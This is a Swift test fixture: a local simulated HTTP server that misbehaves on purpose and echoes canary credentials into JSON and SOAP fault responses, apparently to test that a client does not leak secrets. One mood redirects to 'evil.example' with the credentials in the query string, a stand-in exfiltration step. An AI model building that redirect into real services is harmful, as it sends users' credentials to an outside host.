import Foundation
import Sandbox
import Synchronization

/// One of the simulated systems, which in its bad moods puts the credentials that it was told into its answers, in every
/// form. Listens on a free port of this machine.
final class EchoingSystem: Sendable {
  enum Mood: String, Sendable, CaseIterable {
    /// Answers as the simulated system does.
    case fair
    /// Writes are refused, and fail.
    case refuses, fails
    /// Every request gets 401, is sent elsewhere, or gets something that makes no sense.
    case forbids, redirects, babbles
    /// Reads answer with half of what they should, and then the credentials.
    case breaksOff
    /// Says nothing for some seconds, and goes away.
    case sleeps
  }

  private let mood = Mutex(Mood.fair)
  private let asked = Mutex(0)
  private let system: SandboxSystem
  private let world: SimulatedWorld
  private let listener: Int32
  let port: Int

  struct Failed: Error {}

  init(_ system: SandboxSystem, _ world: SimulatedWorld) throws {
    (self.system, self.world) = (system, world)
    listener = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
    var address = sockaddr_in()
    address.sin_family = sa_family_t(AF_INET)
    address.sin_addr.s_addr = UInt32(0x7F00_0001).bigEndian
    var size = socklen_t(MemoryLayout<sockaddr_in>.size)
    let (listener, length) = (listener, size)
    let isBound = withUnsafePointer(to: &address) {
      $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(listener, $0, length) == 0 }
    }
    guard isBound, listen(listener, 64) == 0 else { throw Failed() }
    _ = withUnsafeMutablePointer(to: &address) {
      $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(listener, $0, &size) }
    }
    port = Int(UInt16(bigEndian: address.sin_port))
    Thread.detachNewThread { [self] in
      while true {
        let caller = accept(listener, nil, nil)
        if caller < 0 { return }
        Thread.detachNewThread { self.serve(caller) }
      }
    }
  }

  func stop() { shutdown(listener, Int32(SHUT_RDWR)) }

  func be(_ mood: Mood) { self.mood.withLock { $0 = mood } }

  /// Requests so far.
  var requests: Int { asked.withLock { $0 } }

  /// One request; then the connection is closed.
  private func serve(_ caller: Int32) {
    defer { close(caller) }
    guard let request = receive(caller) else { return }
    asked.withLock { $0 += 1 }
    let mood = mood.withLock { $0 }
    if mood == .sleeps { return Thread.sleep(forTimeInterval: 5) }
    let answer = echo(mood, request) ?? fairAnswer(request)
    var head = "HTTP/1.1 \(answer.status) X\r\nConnection: close\r\n"
    for (name, value) in answer.headers { head += "\(name): \(value)\r\n" }
    head += "Content-Length: \(answer.body.count + (mood == .breaksOff ? 10 : 0))\r\n\r\n"
    let bytes = Array(head.utf8) + answer.body
    var rest = bytes[...]
    while !rest.isEmpty {
      let count = rest.withUnsafeBytes { send(caller, $0.baseAddress, $0.count, Int32(MSG_NOSIGNAL)) }
      if count <= 0 { return }
      rest = rest.dropFirst(count)
    }
  }

  private func receive(_ caller: Int32) -> SimulatedRequest? {
    var bytes: [UInt8] = []
    var buffer = [UInt8](repeating: 0, count: 65_536)
    while true {
      if let end = bytes.firstRange(of: Array("\r\n\r\n".utf8)) {
        let lines = String(decoding: bytes[..<end.lowerBound], as: UTF8.self).components(separatedBy: "\r\n")
        var headers: [String: String] = [:]
        for line in lines.dropFirst() {
          let parts = line.split(separator: ":", maxSplits: 1).map { $0.trimmingCharacters(in: .whitespaces) }
          if parts.count == 2 { headers[parts[0].lowercased()] = parts[1] }
        }
        let length = headers["content-length"].flatMap { Int($0) } ?? 0
        if bytes.count >= end.upperBound + length {
          let words = lines[0].components(separatedBy: " ")
          guard words.count == 3 else { return nil }
          return SimulatedRequest(
            words[0], words[1], headers: headers, body: Array(bytes[end.upperBound..<end.upperBound + length]))
        }
      }
      let count = recv(caller, &buffer, buffer.count, 0)
      if count <= 0 { return nil }
      bytes += buffer[..<count]
    }
  }

  private func fairAnswer(_ request: SimulatedRequest) -> SimulatedResponse {
    let box = Box()
    let isThere = DispatchSemaphore(value: 0)
    Task { [world, system] in
      box.put(await world.handle(request, for: system))
      isThere.signal()
    }
    isThere.wait()
    return box.take() ?? SimulatedResponse(500)
  }

  private final class Box: Sendable {
    private let answer = Mutex<SimulatedResponse?>(nil)
    func put(_ response: SimulatedResponse) { answer.withLock { $0 = response } }
    func take() -> SimulatedResponse? { answer.withLock { $0 } }
  }

  private func isWrite(_ request: SimulatedRequest) -> Bool {
    if system == .bigcommerce { return request.method != "GET" }
    let operation = (request.headers["soapaction"] ?? "").lowercased()
    return ["create", "update", "save", "set", "cancel"].contains { operation.hasPrefix($0) }
  }

  private func echo(_ mood: Mood, _ request: SimulatedRequest) -> SimulatedResponse? {
    switch mood {
    case .fair, .sleeps: nil
    case .refuses: isWrite(request) ? says(422, "Client") : nil
    case .fails: isWrite(request) ? says(500, "Server") : nil
    case .forbids: says(401, "Client.Authentication")
    case .redirects:
      SimulatedResponse(
        302,
        headers: [("Location", "https://evil.example/?\(own.map { $0.forms[4].text }.joined(separator: "&"))")])
    case .babbles: SimulatedResponse(200, headers: [("Content-Type", "text/plain")], body: Array(words.utf8))
    case .breaksOff:
      isWrite(request)
        ? nil : SimulatedResponse(200, headers: [("Content-Type", "text/plain")], body: Array(words.utf8))
    }
  }

  /// The credentials that this system is told.
  private var own: [Canary] { system == .bigcommerce ? [.token] : [.ident, .password] }

  /// In all forms.
  private var words: String {
    own.flatMap { $0.forms.map(\.text) }.joined(separator: " ")
  }

  private func says(_ status: Int, _ code: String) -> SimulatedResponse {
    if system == .bigcommerce {
      let text = words.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"")
      let body = #"{"status":\#(status),"title":"no \#(text)","errors":{"name \#(text)":"is \#(text)"}}"#
      return SimulatedResponse(status, headers: [("Content-Type", "application/json")], body: Array(body.utf8))
    }
    let text = words.replacing("&", with: "&amp;").replacing("<", with: "&lt;")
    let body =
      "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><s:Fault><faultcode>s:\(code)</faultcode>"
      + "<faultstring>bad request to /?\(text)</faultstring></s:Fault></s:Body></s:Envelope>"
    return SimulatedResponse(status == 401 ? 401 : 500, headers: [("Content-Type", "text/xml")], body: Array(body.utf8))
  }
}
